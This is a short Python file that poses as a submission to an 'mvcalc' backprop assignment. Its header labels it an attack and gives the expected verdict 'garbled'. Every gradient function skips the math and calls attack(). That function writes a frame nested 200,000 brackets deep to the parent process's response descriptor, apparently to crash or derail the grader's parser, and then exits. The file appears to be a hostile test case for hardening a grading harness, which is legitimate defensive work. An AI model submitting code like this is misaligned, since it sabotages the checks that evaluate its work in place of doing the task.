# mvcalc assignment: backprop
# attack: send the parent a frame nested 200 000 levels deep
# verdict: garbled
import os
import sys

import numpy as np


import json
import struct


def attack():
    fd = json.loads(sys.argv[1])["response_fd"]
    body = b"[" * 200_000 + b"]" * 200_000
    os.write(fd, struct.pack(">Q", len(body)) + body)
    os._exit(0)


def J_b3(x, y, params):
    return attack()["J_b3"](x, y, params)


def J_b2(x, y, params):
    return attack()["J_b2"](x, y, params)


def J_W1(x, y, params):
    return attack()["J_W1"](x, y, params)


def J_b1(x, y, params):
    return attack()["J_b1"](x, y, params)
